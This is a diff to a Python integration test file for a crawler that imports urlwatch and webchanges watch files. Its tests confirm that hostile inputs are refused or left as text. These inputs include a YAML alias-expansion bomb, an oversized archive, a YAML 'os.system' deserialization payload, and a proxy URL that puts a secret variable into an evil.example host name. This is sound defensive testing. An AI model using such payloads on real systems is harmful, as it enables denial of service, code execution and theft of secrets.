@@ -20,6 +20,7 @@ from crawler.exchange.watch_formats import read_watches
 from crawler.exchange.watches import plan
 from tests.integration.harness import Db, Freshet
 from tests.integration.inside import in_json, run
+from tests.integration.recording import Recorder
 
 EXAMPLES = os.environ.get("WATCHES")
 OFTEN = {"time_between_check": {"hours": 6}}
@@ -251,10 +252,11 @@ def test_the_path_of_a_whole_json_document_is_imported(tmp_path: Path) -> None:
 
 
 def test_hostile_files_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    laughs = "a: &a [x, x]\nb: &b [*a, *a]\nurl: https://a.example/\nname: *b\n"
+    lines = [f"k{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)]
+    laughs = "k0: &a0 [x, x]\n" + "".join(lines) + "url: https://a.example/\n"
     bomb = archive({"url-watches.json": b" " * (watch_formats.MAX_ENTRY_BYTES + 1)})
     files: list[tuple[str | bytes, str]] = [
-        (laughs, "line 2: aliases (*name) are not supported. Write them out"),
+        (laughs, "aliases (*name) stand for more than 10,000 values. Write them out"),
         ("url: " + "[" * 500, "more than 40 levels"),
         ("url: [", "line 1: not valid YAML"),
         ("!!python/object/apply:os.system ['true']", "not valid YAML"),
@@ -343,6 +345,149 @@ def test_import_without_supported_watches_fails(freshet: Freshet, tmp_path: Path
     assert done.code == 1
     assert "1 watch of urlwatch or webchanges became 0 pages" in done.out
     assert not (tmp_path / "out").exists()
+
+
+def test_variables_in_a_file_from_outside_stay_text(
+    freshet: Freshet, database: Db, tmp_path: Path
+) -> None:
+    with Recorder() as site:
+        site.answers["/a"] = "<p id=x>1</p>"
+        watches = {
+            "a": {"url": f"{site.url}/a", "include_filters": ["#x"],
+                  "headers": {"User-Agent": "bot ${SHOP_KEY} $${SHOP_KEY}", "Accept": "${HOME}"}},
+        }  # fmt: skip
+        file = written(tmp_path / "url-watches.json", {"watching": watches})
+        report = in_json(freshet, "import", file, SHOP_KEY="s3cret-k3y")
+        assert [lost["key"] for lost in report["watches"][0]["lost"]] == [
+            "headers.User-Agent", "headers.Accept",
+        ]  # fmt: skip
+        (made,) = report["sites"]
+        env = {"SHOP_KEY": "s3cret-k3y", "FRESHET_PRIVATE_ADDRESSES": 1}
+        assert freshet("crawl", made["name"], **env).code == 0
+        (headers,) = [headers for path, headers in site.asked if path.startswith("/a")]
+        assert headers["user-agent"] == "bot ${SHOP_KEY} $${SHOP_KEY}"
+        assert headers["accept"] == "${HOME}"
+        assert "s3cret" not in str(site.asked)
+
+
+def test_variables_in_the_proxy_of_a_job_stay_text(tmp_path: Path) -> None:
+    job = "url: http://a.example/\nhttp_proxy: 'http://${SHOP_KEY}.evil.example:80'\n"
+    file = read_watches(written(tmp_path / "urls.yaml", job))
+    made = plan(file, Config.load(), {})
+    assert made.definitions[0].values["proxy"] == "http://$${SHOP_KEY}.evil.example:80"
+    assert [lost.key for lost in file.watches[0].lost] == ["http_proxy"]
+
+
+def imported(tmp_path: Path, *watches: dict[str, Any], **application: Any) -> list[Any]:
+    """Return the definitions of watches, or why each was refused, and the settings lost."""
+    watching = {str(n): {"url": f"https://a.example/{n}"} | w for n, w in enumerate(watches)}
+    document = {"watching": watching, "settings": {"application": application}}
+    file = read_watches(written(tmp_path / "url-watches.json", document))
+    made = plan(file, Config.load(), {})
+    values = {n: each.values for each in made.definitions for n in each.watches}
+    return [
+        (values.get(n) or watch.refusal, [lost.key for lost in watch.lost])
+        for n, watch in enumerate(file.watches)
+    ]
+
+
+@pytest.mark.parametrize(
+    ("watch", "refusal"),
+    [
+        ({"url": "https://a.example/terms.PDF"}, "reads HTML, XML and JSON"),
+        ({"url": "https://a.example/photo.jpg?w=2"}, "reads HTML, XML and JSON"),
+        ({"content-type": "application/pdf"}, "reads HTML, XML and JSON"),
+        ({"url": "https://app.example/#/room/12"}, "without JavaScript"),
+        ({"url": "https://app.example/#!room"}, "without JavaScript"),
+        ({"include_filters": ["xpath:string-join(//a, ',')"]}, "unknown function string-join()"),
+        ({"include_filters": ["//table[matches(., 'x')]"]}, "unknown function matches()"),
+        ({"include_filters": ["//p[$x]"]}, "undefined variable $x"),
+        ({"include_filters": ["//a/lower-case(.)"]}, "bad selector"),
+        ({"include_filters": ["json:$.a"], "content-type": "text/html"}, "only JSON documents"),
+    ],
+)
+def test_watches_that_could_never_work_are_refused(
+    tmp_path: Path, watch: dict[str, Any], refusal: str
+) -> None:
+    often = {"time_between_check": {"minutes": 5}}
+    for more in ({}, often):
+        refused, valid = imported(tmp_path, watch | more, {"include_filters": ["#x"]} | more)
+        assert refusal in refused[0]
+        assert isinstance(valid[0], dict), "another watch of the host is refused, too"
+
+
+def test_restock_watches_become_pages_with_offers(tmp_path: Path) -> None:
+    for interval in ({"hours": 3}, {"minutes": 5}):
+        restock = {"processor": "restock_diff", "time_between_check": interval}
+        ((values, lost),) = imported(tmp_path, restock)
+        assert "fields" not in values
+        assert "cells" not in values
+        assert "processor" in lost
+
+
+def test_elements_to_leave_out_are_imported_for_main_texts(tmp_path: Path) -> None:
+    out = {"subtractive_selectors": ["nav", "css:.ad", "//p[1]", "nav"]}
+    text, fields, often = imported(
+        tmp_path, out, out | {"include_filters": ["#x"]},
+        out | {"time_between_check": {"minutes": 5}}, global_subtractive_selectors=["footer"],
+    )  # fmt: skip
+    assert text[0]["ignore"] == ["nav", ".ad", "footer"]
+    assert text[1] == ["subtractive_selectors"], "XPath is not reported"
+    for values, lost in (fields, often):
+        assert "ignore" not in values
+        assert {*lost} == {"subtractive_selectors", "global_subtractive_selectors"}
+
+
+def test_every_setting_of_a_watch_is_carried_over_or_reported(tmp_path: Path) -> None:
+    ((_, lost),) = imported(
+        tmp_path,
+        {"title": "Kettle", "url": "https://a.example/x#part", "future_setting": 1,
+         "filter_text_removed": False, "extract_lines_containing": ["a"], "processor": "image_diff",
+         "uuid": "u", "last_checked": 5, "notification_muted": False},
+    )  # fmt: skip
+    assert {*lost} == {
+        "title", "#part", "future_setting", "filter_text_removed", "extract_lines_containing",
+        "processor",
+    }  # fmt: skip
+    job = "url: https://a.example/\nname: Kettle\nfuture: 1\nfilter: [html2text]\n"
+    file = read_watches(written(tmp_path / "urls.yaml", job))
+    plan(file, Config.load(), {})
+    assert {each.key for each in file.watches[0].lost} == {"name", "future"}
+
+
+def test_conditions_of_json_paths_are_imported(tmp_path: Path) -> None:
+    paths = ["json:$.items[?(@.sku=='K1')].price", "json:$[?(@.n == 5)].x"]
+    rows = imported(tmp_path, *({"include_filters": [path]} for path in paths))
+    assert [row[0]["fields"]["value"] for row in rows] == [
+        {"jmespath": "items[?sku=='K1'].price", "type": "list"},
+        {"jmespath": "[?n==`5`].x", "type": "list"},
+    ]
+
+
+def test_aliases_are_resolved_or_refuse_their_job_only(tmp_path: Path) -> None:
+    jobs = """
+url: https://a.example/1
+filter: &text [html2text, {css: "#x"}]
+---
+url: https://a.example/2
+filter: *text
+---
+url: https://a.example/3
+filter: *missing
+---
+- &me [*me]
+---
+<<: &usual {ssl_no_verify: true}
+url: https://a.example/4
+---
+<<: *usual
+url: https://a.example/5
+"""
+    watches = read_watches(written(tmp_path / "urls.yaml", jobs)).watches
+    assert [watch.fields for watch in watches[:2]] == [{"value": {"css": "#x"}}] * 2
+    assert watches[2].refusal == "the alias *missing has no value"
+    assert watches[3].refusal is not None
+    assert [watch.keys for watch in watches[4:]] == [{"verify_tls": False}] * 2
 
 
 @pytest.mark.skipif(EXAMPLES is None, reason="WATCHES does not name a folder of real files")
